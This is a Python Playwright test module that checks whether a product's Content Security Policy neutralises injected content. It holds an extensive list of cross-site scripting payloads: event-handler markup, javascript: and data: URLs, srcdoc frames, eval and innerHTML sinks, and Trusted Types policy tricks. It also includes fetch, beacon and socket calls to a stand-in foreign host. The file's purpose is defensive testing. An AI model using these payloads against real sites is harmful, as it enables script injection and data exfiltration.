"""Markup and scripts that must stay without effect on a page under the product's policy."""

from __future__ import annotations

import contextlib
from collections.abc import Iterator, Sequence
from dataclasses import dataclass

from playwright.sync_api import Error, Page, Route

from tests.proofs.pages.stage import FOREIGN, Stage

PLACE = "/attacked"
# What the policy stops, it stops at once; what works may take its time.
STOPPED_MS, WORKING_MS = 150, 5000
POLL_MS = 50
PRESS = """() => { for (const each of document.querySelectorAll('.press'))
  each.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})); }"""
# An attack that a script makes: what runs it has left the debugger, which would lift the policy.
LATER = "(code) => new Promise((done) => setTimeout(() => { try { %s } catch {} done(); }))"
CODE = "top.owned=1"
SCRIPT = f"<script>{CODE}</script>"
EVIL = f"http://{FOREIGN}"


@dataclass(frozen=True)
class Attack:
    """Something injected into a page: markup, or a statement that its own scripts may run."""

    name: str
    markup: str = ""
    statement: str = ""


MARKUP: dict[str, str] = {
    "inline script": SCRIPT,
    "inline script with an empty nonce": f'<script nonce="">{CODE}</script>',
    "inline module": f'<script type="module">{CODE}</script>',
    "script of another site": f'<script src="{EVIL}/a.js"></script>',
    "module of another site": f'<script type="module" src="{EVIL}/a.js"></script>',
    "data: script": f'<script src="data:text/javascript,{CODE}"></script>',
    "data: module": f'<script type="module" src="data:text/javascript,{CODE}"></script>',
    "inline import of another site": f'<script type="module">import "{EVIL}/a.js"</script>',
    "svg script": f"<svg><script>{CODE}</script></svg>",
    "svg script by reference": f'<svg><script href="data:text/javascript,{CODE}"></script></svg>',
    "base of another site": f'<base href="{EVIL}/"><script src="relative.js"></script>',
    "img onerror": f"<img src=x onerror={CODE}>",
    "svg onload": f"<svg onload={CODE}>",
    "body onload": f"<body onload={CODE}>",
    "details ontoggle": f"<details open ontoggle={CODE}>x</details>",
    "input onfocus": f"<input autofocus onfocus={CODE}>",
    "video onerror": f"<video><source onerror={CODE}></video>",
    "audio onerror": f"<audio src=x onerror={CODE}></audio>",
    "iframe onload": f"<iframe onload={CODE}></iframe>",
    "style onload": f"<style onload={CODE}></style>",
    "link onerror": f"<link rel=stylesheet href=/nowhere.css onerror={CODE}>",
    "svg animate onbegin": f"<svg><animate onbegin={CODE} attributeName=x dur=1s></svg>",
    "object onerror": f"<object data=/nowhere.x onerror={CODE}></object>",
    "iframe srcdoc": f'<iframe srcdoc="{SCRIPT}"></iframe>',
    "iframe srcdoc with a handler": f'<iframe srcdoc="<img src=x onerror={CODE}>"></iframe>',
    "iframe javascript:": f'<iframe src="javascript:{CODE}"></iframe>',
    "frame of another site": f'<iframe src="{EVIL}/frame"></iframe>',
    "object of another site": f'<object data="{EVIL}/object"></object>',
    "embed of another site": f'<embed src="{EVIL}/embed">',
    "image of another site": f'<img src="{EVIL}/image.png">',
    "style sheet of another site": f'<link rel="stylesheet" href="{EVIL}/a.css">',
    "import in a style": f'<style>@import "{EVIL}/b.css";</style>',
    "background of another site": f'<p style="background:url({EVIL}/background.png)">x</p>',
    "font of another site": (
        f"<style>@font-face{{font-family:x;src:url({EVIL}/font.woff2)}}p{{font:9px x}}</style><p>x"
    ),
    "media of another site": f'<video src="{EVIL}/video.mp4"></video>',
    "manifest-like icon of another site": f'<link rel="icon" href="{EVIL}/icon.png">',
    "picture by reference": f'<svg><image href="{EVIL}/svg.png"></image></svg>',
}  # fmt: skip
PRESSED: dict[str, str] = {
    "javascript: link": f'<a class=press href="javascript:{CODE}">x</a>',
    "javascript: link with a tab": f'<a class=press href="java&#9;script:{CODE}">x</a>',
    "javascript: link in svg": (
        f'<svg width=50 height=20><a class=press href="javascript:{CODE}">'
        "<rect width=50 height=20></rect></a></svg>"
    ),
    "onclick": f"<button class=press onclick={CODE}>x</button>",
    "form to another site": f'<form action="{EVIL}/form"><button class=press>x</button></form>',
    "button to another site": (
        f'<form><button class=press formaction="{EVIL}/formaction">x</button></form>'
    ),
    "form to javascript:": (
        f'<form action="javascript:{CODE}"><button class=press>x</button></form>'
    ),
}
STATEMENTS: dict[str, str] = {
    "eval": f"eval('{CODE}')",
    "new Function": f"new Function('{CODE}')()",
    "setTimeout with text": f"setTimeout('{CODE}')",
    "setInterval with text": (
        f"const t = setInterval('{CODE}'); setTimeout(() => clearInterval(t), 20)"
    ),
    "innerHTML": f"document.body.innerHTML = '<img src=x onerror={CODE}>'",
    "outerHTML": (
        "const p = document.body.appendChild(document.createElement('p'));"
        f"p.outerHTML = '<img src=x onerror={CODE}>'"
    ),
    "insertAdjacentHTML": (
        f"document.body.insertAdjacentHTML('beforeend', '<img src=x onerror={CODE}>')"
    ),
    "document.write": f"document.write('<img src=x onerror={CODE}>')",
    "createContextualFragment": (
        "const r = document.createRange(); r.selectNode(document.body);"
        f"document.body.append(r.createContextualFragment('<img src=x onerror={CODE}>'))"
    ),
    "srcdoc": (
        "const f = document.createElement('iframe');"
        f"f.srcdoc = '<img src=x onerror={CODE}>'; document.body.append(f)"
    ),
    "DOMParser": (
        f"const d = new DOMParser().parseFromString('<img src=x onerror={CODE}>', 'text/html');"
        "document.body.append(document.adoptNode(d.body.firstChild))"
    ),
    "setHTMLUnsafe": f"document.body.setHTMLUnsafe('<img src=x onerror={CODE}>')",
    "script text": (
        f"const s = document.createElement('script'); s.text = '{CODE}'; document.body.append(s)"
    ),
    "script src": (
        "const s = document.createElement('script');"
        f"s.src = '{EVIL}/set.js'; document.body.append(s)"
    ),
    "handler by setAttribute": (
        "const i = document.createElement('img');"
        f"i.setAttribute('onerror', '{CODE}'); i.src = 'x'; document.body.append(i)"
    ),
    "blob: script": (
        f"const b = URL.createObjectURL(new Blob(['{CODE}'], {{type: 'text/javascript'}}));"
        "const s = document.createElement('script'); s.src = b; document.body.append(s)"
    ),
    "import of data:": f"import('data:text/javascript,{CODE}')",
    "import of another site": f"import('{EVIL}/imported.js')",
    "a policy of one's own": (
        "const p = trustedTypes.createPolicy('evil', {createHTML: (x) => x});"
        f"document.body.innerHTML = p.createHTML('<img src=x onerror={CODE}>')"
    ),
    "a default policy": (
        "trustedTypes.createPolicy('default', {createHTML: (x) => x});"
        f"document.body.innerHTML = '<img src=x onerror={CODE}>'"
    ),
    "fetch of another site": f"fetch('{EVIL}/fetched', {{mode: 'no-cors'}}).catch(() => 0)",
    "beacon to another site": f"navigator.sendBeacon('{EVIL}/beacon', 'x')",
    "socket to another site": f"new WebSocket('ws://{FOREIGN}/socket')",
    "events of another site": f"new EventSource('{EVIL}/events')",
    "worker of data:": f"new Worker('data:text/javascript,fetch(\"{EVIL}/worker\")')",
    "location to javascript:": f"location.href = 'javascript:{CODE}'",
}


def attacks() -> list[Attack]:
    """All of them."""
    return [
        *(Attack(name, markup=markup) for name, markup in (MARKUP | PRESSED).items()),
        *(Attack(name, statement=statement) for name, statement in STATEMENTS.items()),
    ]


def successes(
    stage: Stage, url: str, tried: Sequence[Attack], *, policy: str | None = None, together: int = 1
) -> Iterator[str]:
    """The names of the attacks that had an effect on a page of the product.

    The page carries the headers that the product sent with it, with another `policy` if one is
    given: an empty one shows that an attack is one. `together` of them are made on one page, and
    one by one if something happened.
    """
    context, page, watch = stage.profile(url)
    current: list[Sequence[Attack]] = [[]]

    def inject(route: Route) -> None:
        headers = dict(route.fetch().headers)
        headers.pop("content-length", None)
        if policy is not None:
            headers["content-security-policy"] = policy
        markup = "".join(attack.markup for attack in current[0])
        route.fulfill(status=200, headers=headers, body=f"<!doctype html><title>x</title>{markup}")

    def happened() -> int:
        return len(watch.executed) + len(stage.witness.asked)

    def effects(group: Sequence[Attack]) -> int:
        current[0] = group
        before = happened()
        _carry_out(page, url + PLACE, group)
        page.wait_for_timeout(STOPPED_MS)
        waited = STOPPED_MS
        while policy is not None and happened() == before and waited < WORKING_MS:
            page.wait_for_timeout(POLL_MS)
            waited += POLL_MS
        return happened() - before

    context.route(url + PLACE, inject)
    for group in batched(tried, together):
        if effects(group):
            yield from (attack.name for attack in group if len(group) == 1 or effects([attack]))
    context.close()


def batched(things: Sequence[Attack], size: int) -> Iterator[Sequence[Attack]]:
    """The things in groups of at most a size."""
    for start in range(0, len(things), size):
        yield things[start : start + size]


def _carry_out(page: Page, address: str, group: Sequence[Attack]) -> None:
    # What the attack before it set in motion may still be going somewhere.
    with contextlib.suppress(Error):
        page.goto(address, wait_until="load")
    if page.url != address:
        page.goto(address, wait_until="load")
    for attack in group:
        if attack.statement:
            page.evaluate(LATER % attack.statement, "")
    page.evaluate(PRESS)
